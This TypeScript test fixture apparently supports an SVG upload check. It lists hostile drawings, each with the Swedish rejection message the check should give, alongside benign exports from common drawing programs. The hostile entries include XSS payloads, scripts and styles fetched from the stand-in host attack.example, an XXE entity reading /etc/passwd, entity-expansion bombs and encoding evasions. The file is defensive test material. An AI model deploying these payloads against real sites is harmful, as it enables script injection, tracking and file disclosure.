/**
 * Drawings (SVG) that try to run, fetch, link or exhaust, however they are written, and ordinary drawings as programs export them.
 * The check must refuse the former and accept the latter; a browser that opens either must do nothing but draw.
 */
import { gzipSync } from 'node:zlib';

/** What runs in an attack: a browser that runs it shows a dialog, or asks another host. */
const RUN = 'alert(document.domain)';
const HOST = 'https://attack.example';

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inner: string, attributes = '') =>
  `<svg ${NAMESPACES} ${attributes}viewBox="0 0 10 10">\n${inner}\n</svg>\n`;

const SCRIPT = `<script>${RUN}</script>`;
const utf16 = (text: string, isBigEndian = false) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return isBigEndian ? bytes.swap16() : bytes;
};

/** A drawing, and the beginning of what the check says of it: the line and the message. */
export type DrawingAttack = readonly [description: string, drawing: string | Buffer, expected: string];

export const DRAWING_ATTACKS: readonly DrawingAttack[] = [
  // Elements
  ['a script', svg(SCRIPT), '2 Bilden innehåller ”<script>”'],
  ['a script from elsewhere', svg(`<script href="${HOST}/x.js"/>`), '2 Bilden innehåller ”<script>”'],
  [
    'a script with a prefix',
    `<svg:svg xmlns:svg="http://www.w3.org/2000/svg">\n<svg:script>${RUN}</svg:script>\n</svg:svg>`,
    '2 Bilden innehåller ”<svg:script>”',
  ],
  [
    'a script whose namespace is spelt in entities',
    `<svg ${NAMESPACES}>\n<x xmlns:h="http://www.w3.org/1999/&#120;html"><h:script>${RUN}</h:script></x></svg>`,
    '2 Bilden innehåller ”<x>”',
  ],
  [
    'a script of XHTML',
    svg(`<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`),
    '2 Bilden innehåller ”<script>” ur namnrymden',
  ],
  [
    'a script in the notes of a drawing program',
    svg(
      `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n${SCRIPT}</rdf:RDF></metadata>`,
    ),
    '3 Bilden innehåller ”<script>”',
  ],
  ['a script in CDATA', svg(`<script><![CDATA[${RUN}]]></script>`), '2 Bilden innehåller ”<script>”'],
  [
    'a script after what looks like a comment',
    svg(`<title>&lt;!--</title>${SCRIPT}<!-- -->`),
    '2 Bilden innehåller ”<script>”',
  ],
  ['a script in capitals', svg(`<SCRIPT>${RUN}</SCRIPT>`), '2 Bilden innehåller ”<SCRIPT>”'],
  [
    'a page',
    svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></body></foreignObject>`,
    ),
    '2 Bilden innehåller ”<foreignObject>”',
  ],
  [
    'a frame in a page',
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/></foreignObject>`,
    ),
    '2 Bilden innehåller ”<foreignObject>”',
  ],
  [
    'an image of XHTML',
    svg(`<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="${HOST}/x.png" onerror="${RUN}"/>`),
    '2 Bilden innehåller ”<x:img>” ur namnrymden',
  ],
  [
    'a form that asks for passwords',
    svg(
      `<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="${HOST}/"><h:input autofocus="" onfocus="${RUN}"/></h:form>`,
    ),
    '2 Bilden innehåller ”<h:form>” ur namnrymden',
  ],
  [
    'a page instead of a drawing',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
    '1 Filen är ingen SVG-bild',
  ],
  [
    'a web page with a drawing in it',
    `<!doctype html><html><body><svg></svg>${SCRIPT}</body></html>`,
    '1 Bilden går inte att läsa',
  ],
  ['a drawing without a namespace', `<svg viewBox="0 0 1 1">\n${SCRIPT}</svg>`, '1 Filen är ingen SVG-bild'],
  [
    'mathematics that links',
    svg(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${RUN}">x</mtext></math>`),
    '2 Bilden innehåller ”<math>” ur namnrymden',
  ],
  [
    'a handler of XML events',
    svg(
      `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#a"/><handler id="a">${RUN}</handler>`,
    ),
    '2 Bilden innehåller ”<ev:listener>” ur namnrymden',
  ],
  [
    'a video',
    svg(`<video xmlns="http://www.w3.org/1999/xhtml" src="${HOST}/x.mp4" autoplay="" onerror="${RUN}"/>`),
    '2 Bilden innehåller ”<video>” ur namnrymden',
  ],
  [
    'a transformation',
    `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
    '1 Filen är ingen SVG-bild',
  ],
  ['an undeclared prefix', svg(`<y:script>${RUN}</y:script>`), '2 Bilden innehåller ”<y:script>”'],
  // Events
  [
    'an event handler',
    svg('<path d="M0 0"/>', `onload="${RUN}" `),
    '1 Bilden innehåller attributet ”onload”',
  ],
  [
    'an event handler on a shape',
    svg(`<path\n  d="M0 0h9v9z" onclick="${RUN}" onmouseover="${RUN}"/>`),
    '3 Bilden innehåller attributet ”onclick”',
  ],
  [
    'an event handler that no list knows',
    svg(`<rect onbeforewhatever="${RUN}" width="9" height="9"/>`),
    '2 Bilden innehåller attributet ”onbeforewhatever”',
  ],
  [
    'an event handler in the title',
    svg(`<title onfocus="${RUN}" tabindex="0">x</title>`),
    '2 Bilden innehåller attributet ”onfocus”',
  ],
  [
    'an event handler of an animation',
    svg(`<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`),
    '2 Bilden innehåller ”<animate>”',
  ],
  // Links and animations
  [
    'a link that runs',
    svg(`<a href="javascript:${RUN}"><rect width="9" height="9"/></a>`),
    '2 Bilden innehåller ”<a>”',
  ],
  [
    'a link that runs, with a line break in it',
    svg(`<a xlink:href="java&#10;script:${RUN}"><rect width="9" height="9"/></a>`),
    '2 Bilden innehåller ”<a>”',
  ],
  [
    'a link to another host',
    svg(`<a href="${HOST}/"><rect width="9" height="9"/></a>`),
    '2 Bilden innehåller ”<a>”',
  ],
  [
    'an animation of a link',
    svg(
      `<a id="a"><rect width="9" height="9"/></a>\n<set href="#a" attributeName="href" to="javascript:${RUN}"/>`,
    ),
    '2 Bilden innehåller ”<a>”',
  ],
  [
    'an animation of an address',
    svg(`<use><animate attributeName="href" values="${HOST}/x.svg#a" dur="1s"/></use>`),
    '2 Bilden innehåller ”<animate>”',
  ],
  [
    'an animation without end',
    svg(
      '<rect width="9" height="9"><animateTransform attributeName="transform" type="rotate" dur="1s" repeatCount="indefinite"/></rect>',
    ),
    '2 Bilden innehåller ”<animateTransform>”',
  ],
  // Addresses
  [
    'a part from elsewhere',
    svg(`<use href="${HOST}/x.svg#a"/>`),
    `2 Bilden innehåller en adress till något utanför sig själv: ”${HOST}/x.svg#a”`,
  ],
  [
    'a part from elsewhere under another prefix',
    `<svg ${NAMESPACES} xmlns:z="http://www.w3.org/1999/xlink">\n<use z:href="${HOST}/x.svg#a"/></svg>`,
    '2 Bilden innehåller en adress',
  ],
  [
    'a part that is a drawing with a script',
    svg(
      `<use href="data:image/svg+xml,${encodeURIComponent(`<svg id='a' ${NAMESPACES.replaceAll('"', "'")}>${SCRIPT}</svg>`)}#a"/>`,
    ),
    '2 Bilden innehåller en adress',
  ],
  [
    'a picture that tracks its readers',
    svg(`<image href="${HOST}/x.png" width="9" height="9"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a picture of the site itself',
    svg('<image href="/om/" width="9" height="9"/>'),
    '2 Bilden innehåller en adress',
  ],
  [
    'a picture without a protocol',
    svg('<image href="//attack.example/x.png" width="9" height="9"/>'),
    '2 Bilden innehåller en adress',
  ],
  [
    'a picture that is a drawing',
    svg(`<image xlink:href="data:image/svg+xml;base64,${Buffer.from(svg(SCRIPT)).toString('base64')}"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a picture that is a page',
    svg(`<image href="data:text/html,${encodeURIComponent(SCRIPT)}"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a filter that fetches',
    svg(
      `<filter id="f"><feImage href="${HOST}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
    '2 Bilden innehåller en adress',
  ],
  [
    'a gradient from elsewhere',
    svg(`<linearGradient id="a" xlink:href="${HOST}/x.svg#b"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a text along a path from elsewhere',
    svg(`<text><textPath href="${HOST}/x.svg#b">x</textPath></text>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a base for all addresses',
    svg('<use href="#a"/>', `xml:base="${HOST}/x.svg" `),
    '1 Bilden innehåller attributet ”xml:base”',
  ],
  [
    'a colour profile from elsewhere',
    svg(`<color-profile name="a" xlink:href="${HOST}/x.icc"/>`),
    '2 Bilden innehåller ”<color-profile>”',
  ],
  [
    'a font from elsewhere',
    svg(
      `<font-face font-family="a"><font-face-src><font-face-uri xlink:href="${HOST}/x.svg#f"/></font-face-src></font-face>`,
    ),
    '2 Bilden innehåller ”<font-face-uri>”',
  ],
  // Styles
  [
    'a style sheet that imports',
    svg(`<style>\n@import "${HOST}/x.css";</style>`),
    '3 Bilden innehåller stilregeln ”@import”',
  ],
  [
    'a style sheet that imports, escaped',
    svg(`<style>@\\69mport url(${HOST}/x.css);</style>`),
    '2 Bilden innehåller stilregeln',
  ],
  [
    'a style sheet that imports, in CDATA',
    svg(`<style><![CDATA[\n@import url(${HOST}/x.css);\n]]></style>`),
    '3 Bilden innehåller stilregeln ”@import”',
  ],
  [
    'a style sheet that imports, spelt in entities',
    svg(`<style>&#64;import "${HOST}/x.css";</style>`),
    '2 Bilden innehåller stilregeln ”@import”',
  ],
  [
    'a style sheet that fetches',
    svg(`<style>rect { fill: red;\n  mask: url("${HOST}/x.svg#m") }</style><rect width="9" height="9"/>`),
    '3 Bilden innehåller en adress',
  ],
  [
    'a style sheet that fetches, escaped',
    svg(`<style>svg { background: u\\72l(${HOST}/x.png) }</style>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a style sheet that fetches behind a comment',
    svg(`<style>svg { background: url(/**/"${HOST}/x.png") }</style>`),
    '2 Bilden innehåller',
  ],
  [
    'a style sheet that fetches a set of images',
    svg(`<style>svg { background: -webkit-image-set("${HOST}/x.png" 1x) }</style>`),
    '2 Bilden innehåller stilregeln',
  ],
  [
    'a style sheet that fetches a font',
    svg(
      `<style>@font-face { font-family: a; src: url(${HOST}/x.woff2) } text { font-family: a }</style><text>x</text>`,
    ),
    '2 Bilden innehåller en adress',
  ],
  [
    'a style sheet with a cursor from elsewhere',
    svg(`<style>rect { cursor: url(${HOST}/x.cur), auto }</style>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a style with an address in a variable',
    svg(`<rect style="--a: url(${HOST}/x.png); background: var(--a)"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a fill from elsewhere',
    svg(`<rect fill="url(${HOST}/x.svg#g)" width="9" height="9"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a filter from elsewhere',
    svg(`<rect filter='url("${HOST}/x.svg#f")' width="9" height="9"/>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a clip path from elsewhere',
    svg(`<g clip-path="url(&quot;${HOST}/x.svg#c&quot;)"><rect width="9" height="9"/></g>`),
    '2 Bilden innehåller en adress',
  ],
  [
    'a style that runs in old browsers',
    svg(`<rect style="width: expression(${RUN})"/>`),
    '2 Bilden innehåller stilregeln ”expression()”',
  ],
  [
    'a style that binds in old browsers',
    svg(`<rect style="-moz-binding: url(#a)"/>`),
    '2 Bilden innehåller stilregeln ”-moz-binding”',
  ],
  [
    'a style of another language',
    svg(`<style type="text/javascript">${RUN}</style>`),
    '2 Bilden innehåller stilregeln ”text/javascript”',
  ],
  [
    'a link to a style sheet',
    svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${HOST}/x.css"/>`),
    '2 Bilden innehåller ”<link>” ur namnrymden',
  ],
  // The document
  [
    'a style sheet of the document',
    `<?xml-stylesheet href="${HOST}/x.css"?>\n${svg('')}`,
    '1 Bilden innehåller en instruktion',
  ],
  [
    'a transformation of the document',
    `<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>\n${svg('')}`,
    '2 Bilden innehåller en instruktion',
  ],
  [
    'entities that expand exponentially',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n${svg('<text>&b;</text>')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'entities that hide a script',
    `<!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>\n${svg('&a;')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'entities that are not used',
    `<!DOCTYPE svg [<!ENTITY a "x">]>\n${svg('')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'a file of the machine',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n${svg('<text>&a;</text>')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'attributes that a definition adds',
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>\n${svg('')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'definitions from elsewhere',
    `<!DOCTYPE svg SYSTEM "${HOST}/x.dtd">\n${svg('')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  [
    'the definitions of XHTML',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">\n${svg('')}`,
    '1 Bilden innehåller egna definitioner',
  ],
  ['a script before a fault', `<svg ${NAMESPACES}>\n${SCRIPT}\n<b></svg>`, '3 Bilden går inte att läsa'],
  ['a script after the end', `${svg('')}${SCRIPT}`, '4 Bilden går inte att läsa'],
  // Encodings
  ['UTF-16', utf16(svg(SCRIPT)), '1 Bilden är inte sparad som UTF-8'],
  [
    'UTF-16 the other way around',
    utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg(SCRIPT)}`, true),
    '1 Bilden är inte sparad som UTF-8',
  ],
  ['UTF-16 without a mark', Buffer.from(svg(SCRIPT), 'utf16le'), '1 Bilden är inte sparad som UTF-8'],
  [
    'UTF-7',
    `<?xml version="1.0" encoding="UTF-7"?>\n<svg ${NAMESPACES}><text>+ADw-script+AD4-${RUN}+ADw-/script+AD4-</text></svg>`,
    '1 Bilden säger att dess teckenkodning är ”UTF-7”',
  ],
  ['Latin-1', Buffer.from(svg('<title>Å</title>'), 'latin1'), '1 Bilden är inte sparad som UTF-8'],
  [
    'a Japanese encoding',
    `<?xml version="1.0" encoding="ISO-2022-JP"?>\n${svg('')}`,
    '1 Bilden säger att dess teckenkodning är ”ISO-2022-JP”',
  ],
  ['a compressed drawing', gzipSync(svg(SCRIPT)), '1 Bilden är inte sparad som UTF-8'],
  // Floods
  [
    '1,001 groups in each other',
    svg(`${'<g>'.repeat(1_001)}${'</g>'.repeat(1_001)}`),
    '2 Bilden har grupper i grupper',
  ],
  [
    '100,000 groups in each other',
    svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`),
    '1 Bilden har grupper i grupper',
  ],
  [
    'a drawing that repeats itself exponentially',
    svg(
      Array.from(
        { length: 12 },
        (_, level) =>
          `<g id="a${level}">${level === 0 ? '<rect width="9" height="9"/>' : `<use href="#a${level - 1}"/>`.repeat(10)}</g>`,
      ).join('\n'),
    ),
    '1 Bilden upprepar sina delar',
  ],
  ['60,000 scripts', svg('<script/>\n'.repeat(60_000)), '2 Bilden innehåller ”<script>”'],
  [
    'an enormous style',
    svg(`<style>${'a{fill:url(//x)}'.repeat(60_000)}</style>`),
    '2 Bilden innehåller en adress',
  ],
];

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGP4DwABAQEAsTj2FAAAAABJRU5ErkJggg==';

/** Drawings as programs save them, named by the program. */
export const DRAWINGS: Readonly<Record<string, string>> = {
  inkscape: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg
   width="210mm"
   height="297mm"
   viewBox="0 0 210 297"
   version="1.1"
   id="svg1"
   inkscape:version="1.3.2 (091e20e, 2023-11-25, custom)"
   sodipodi:docname="vapen.svg"
   inkscape:export-filename="vapen.png"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <title id="title1">Vapen</title>
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="0.74" inkscape:document-units="mm" showgrid="true">
    <inkscape:grid id="grid1" units="mm" originx="0" spacingx="1" enabled="true" />
  </sodipodi:namedview>
  <defs id="defs1">
    <inkscape:path-effect effect="spiro" id="path-effect1" is_visible="true" lpeversion="1" />
    <linearGradient id="linearGradient1" inkscape:collect="always" inkscape:swatch="gradient">
      <stop style="stop-color:#0d5a68;stop-opacity:1;" offset="0" id="stop1" />
      <stop style="stop-color:#0d5a68;stop-opacity:0;" offset="1" id="stop2" />
    </linearGradient>
    <linearGradient inkscape:collect="always" xlink:href="#linearGradient1" id="linearGradient2" x1="50" y1="50" x2="90" y2="50" gradientUnits="userSpaceOnUse" gradientTransform="matrix(1,0,0,-1,0,2)" />
    <clipPath clipPathUnits="userSpaceOnUse" id="clipPath1"><rect x="1" y="1" width="9" height="9" id="r1" style="-inkscape-stroke:none" /></clipPath>
    <filter inkscape:collect="always" style="color-interpolation-filters:sRGB" id="filter1" x="-0.1" y="-0.1" width="1.2" height="1.2"><feGaussianBlur inkscape:collect="always" stdDeviation="2.4" id="blur1" /></filter>
  </defs>
  <g inkscape:label="Lager 1" inkscape:groupmode="layer" id="layer1" clip-path="url(#clipPath1)">
    <path style="fill:url(#linearGradient2);stroke:#000000;stroke-width:0.26;paint-order:markers fill stroke;filter:url(#filter1)" d="M 10,10 H 90 V 90 Z" id="path1" sodipodi:nodetypes="cccc" inkscape:connector-curvature="0" inkscape:path-effect="#path-effect1" />
    <text xml:space="preserve" style="font-size:10.58px;line-height:1.25;font-family:sans-serif;-inkscape-font-specification:'sans-serif, Normal';font-variant-ligatures:normal" x="20" y="30" id="text1"><tspan sodipodi:role="line" id="tspan1" x="20" y="30">Björkhult</tspan></text>
    <image width="9" height="9" preserveAspectRatio="none" xlink:href="${PIXEL}" id="image1" x="1" y="1" />
  </g>
  <metadata id="metadata1"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage" /><cc:license rdf:resource="http://creativecommons.org/licenses/by/4.0/" /></cc:Work></rdf:RDF></metadata>
</svg>
`,
  illustrator: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Lager_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 100 120" style="enable-background:new 0 0 100 120;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#FFD100;}
	.st1{clip-path:url(#SVGID_2_);fill:url(#SVGID_3_);}
	.st2{font-family:'MyriadPro-Regular';}
	.st3{fill:none;stroke:#231F20;stroke-miterlimit:10;mix-blend-mode:multiply;}
</style>
<metadata><?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:xmp="http://ns.adobe.com/xap/1.0/"><rdf:Description rdf:about=""><xmp:CreatorTool>Adobe Illustrator</xmp:CreatorTool></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?></metadata>
<g><defs><path id="SVGID_1_" d="M0,0h100v80l-50,40L0,80z"/></defs>
	<clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_"  style="overflow:visible;"/></clipPath>
	<radialGradient id="SVGID_3_" cx="50" cy="60" r="40" gradientUnits="userSpaceOnUse"><stop  offset="0" style="stop-color:#FFFFFF"/><stop  offset="1" style="stop-color:#0D5A68"/></radialGradient>
	<rect class="st1" width="100" height="120"/>
	<path class="st3" d="M0,0h100v80l-50,40L0,80z"/>
	<switch><g><text transform="matrix(1 0 0 1 20 60)" class="st2 st0">Björkhult</text></g></switch></g>
</svg>
`,
  'illustrator export': `<?xml version="1.0" encoding="UTF-8"?><svg id="Lager_2" data-name="Lager 2 (kopia)" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 28"><defs><style>.cls-1{isolation:isolate;}.cls-2,.cls-3{fill:#0d5a68;}@media (prefers-color-scheme: dark){.cls-2{fill:#fff;}}</style></defs><g class="cls-1"><path class="cls-2" d="m0,0h24v17L12,28,0,17Z"/></g></svg>`,
  figma: `<svg width="24" height="28" viewBox="0 0 24 28" fill="none" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<g clip-path="url(#clip0_1_2)" filter="url(#filter0_d)" style="mix-blend-mode:multiply">
<rect width="24" height="28" fill="url(#pattern0)"/>
<path fill-rule="evenodd" clip-rule="evenodd" d="M0 0H24V17L12 28L0 17V0Z" fill="url(#paint0_linear_1_2)" fill-opacity="0.9"/>
</g>
<mask id="mask0" style="mask-type:luminance" maskUnits="userSpaceOnUse" x="0" y="0" width="24" height="28"><path d="M0 0H24V28H0V0Z" fill="white"/></mask>
<defs>
<pattern id="pattern0" patternContentUnits="objectBoundingBox" width="1" height="1"><use xlink:href="#image0" transform="scale(0.01)"/></pattern>
<filter id="filter0_d" x="0" y="0" width="28" height="32" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feComposite in2="hardAlpha" operator="out"/><feBlend mode="normal" in2="BackgroundImageFix" result="effect1"/></filter>
<linearGradient id="paint0_linear_1_2" x1="12" y1="0" x2="12" y2="28" gradientUnits="userSpaceOnUse"><stop stop-color="#0D5A68"/><stop offset="1" stop-color="#0D5A68" stop-opacity="0"/></linearGradient>
<clipPath id="clip0_1_2"><rect width="24" height="28" fill="white"/></clipPath>
<image id="image0" width="100" height="100" preserveAspectRatio="none" xlink:href="${PIXEL}"/>
</defs>
</svg>
`,
  affinity: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg width="100%" height="100%" viewBox="0 0 24 28" version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xml:space="preserve" xmlns:serif="http://www.serif.com/" style="fill-rule:evenodd;clip-rule:evenodd;stroke-linejoin:round;stroke-miterlimit:2;">
    <g id="Vapen" serif:id="Vapen 1" transform="matrix(1,0,0,1,-2,0)"><path d="M0,0h24v17l-12,11l-12,-11Z" style="fill:rgb(13,90,104);"/></g>
</svg>
`,
  coreldraw: `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- Creator: CorelDRAW -->
<svg xmlns="http://www.w3.org/2000/svg" xml:space="preserve" width="40mm" height="50mm" version="1.1" style="shape-rendering:geometricPrecision; text-rendering:geometricPrecision; image-rendering:optimizeQuality; fill-rule:evenodd; clip-rule:evenodd"
viewBox="0 0 4000 5000"
 xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:xodm="http://www.corel.com/coreldraw/odm/2003">
 <defs>
  <style type="text/css">
   <![CDATA[
    .str0 {stroke:#2B2A29;stroke-width:20;stroke-miterlimit:22.9256}
    .fil0 {fill:#E31E24}
   ]]>
  </style>
 </defs>
 <g id="Layer_x0020_1">
  <metadata id="CorelCorpID_0Corel-Layer"/>
  <polygon class="fil0 str0" points="0,0 4000,0 2000,5000 "/>
 </g>
</svg>
`,
  libreoffice: `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.2" width="210mm" height="297mm" viewBox="0 0 21000 29700" preserveAspectRatio="xMidYMid" fill-rule="evenodd" stroke-width="28.222" stroke-linejoin="round" xmlns="http://www.w3.org/2000/svg" xmlns:ooo="http://xml.openoffice.org/svg/export" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:presentation="http://sun.com/xmlns/staroffice/presentation" xmlns:smil="http://www.w3.org/2001/SMIL20/" xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:animation:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xml:space="preserve">
 <defs class="ClipPathGroup"><clipPath id="presentation_clip_path" clipPathUnits="userSpaceOnUse"><rect x="0" y="0" width="21000" height="29700"/></clipPath></defs>
 <defs><font id="EmbeddedFont_1" horiz-adv-x="2048"><font-face font-family="Liberation Sans embedded" units-per-em="2048" font-weight="normal" font-style="normal" ascent="1852" descent="423"/><missing-glyph horiz-adv-x="2048" d="M 0,0 L 2047,0 2047,2047 0,2047 0,0 Z"/><glyph unicode="t" horiz-adv-x="531" d="M 554,8 Z"/></font></defs>
 <defs class="TextShapeIndex"><g ooo:slide="id1" ooo:id-list="id3"/></defs>
 <g class="SlideGroup"><g id="container-id1"><g id="id1" class="Slide" clip-path="url(#presentation_clip_path)"><g class="com.sun.star.drawing.CustomShape"><rect class="BoundingBox" stroke="none" fill="none" x="3" y="3" width="9" height="9"/><text class="SVGTextShape"><tspan class="TextParagraph"><tspan class="TextPosition" x="3" y="9"><tspan font-family="Liberation Sans, sans-serif" font-size="635px" font-weight="400" fill="rgb(0,0,0)" stroke="none" style="white-space: pre">Björkhult</tspan></tspan></tspan></text></g></g></g></g>
</svg>
`,
  batik: `<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.0//EN' 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'>
<svg xmlns:xlink="http://www.w3.org/1999/xlink" style="fill-opacity:1; color-rendering:auto; color-interpolation:auto; text-rendering:auto; stroke:black; font-family:&apos;Dialog&apos;" width="9" contentScriptType="text/ecmascript" preserveAspectRatio="xMidYMid meet" xmlns="http://www.w3.org/2000/svg" zoomAndPan="magnify" version="1.0" contentStyleType="text/css" height="9"><g style="clip-path:url(#a)"><defs id="defs"><clipPath clipPathUnits="userSpaceOnUse" id="a"><path d="M0 0 L9 0 L9 9 Z"/></clipPath></defs></g></svg>
`,
  plain:
    '\ufeff<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="Vapen" viewBox="0 0 24 28"><path d="M0 0h24v17L12 28 0 17z"/></svg>\r\n',
};
